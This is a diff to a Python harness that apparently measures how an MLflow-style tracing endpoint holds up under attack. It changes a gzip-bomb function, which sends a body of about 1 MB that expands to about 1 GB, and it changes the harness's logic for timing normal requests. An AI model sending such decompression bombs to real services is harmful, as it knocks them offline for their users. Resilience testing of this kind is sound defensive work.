@@ -339,7 +339,7 @@ def large_exports(victim, count, seconds):
 
 def gzip_bombs(victim, count, seconds):
     """An export of 1 MB that becomes 1 GB."""
-    zeros = gzip.compress(bytes(16 << 20))
+    zeros = gzip.compress(bytes(16 << 20), 1)
     body = gzip.compress(b"\x7a\xff\xff\xff\xff\x07") + zeros * 64
     data = _body(victim, "/v1/traces", "application/x-protobuf", body, "Content-Encoding: gzip",
                  f"X-Mlflow-Experiment-Id: {victim.experiment}")
@@ -528,8 +528,11 @@ def suffer(victim, gentle, attack, count, seconds, quiet=2.0):
     ends = time.monotonic()
     peak = memory.stop()
     time.sleep(quiet)
-    # What was asked last is answered, or it counts as not answered.
-    time.sleep(0.2)
+    # Its questions go one after the other: with some of later, what was asked during the attack is answered too.
+    for _ in until(60):
+        if len(gentle.between(ends, float("inf"))[0]) >= 3:
+            break
+        time.sleep(0.05)
     end = time.monotonic()
     (before, wrong0), (during, wrong1), (after, wrong2) = (
         gentle.between(start, begins), gentle.between(begins, ends), gentle.between(ends, end))
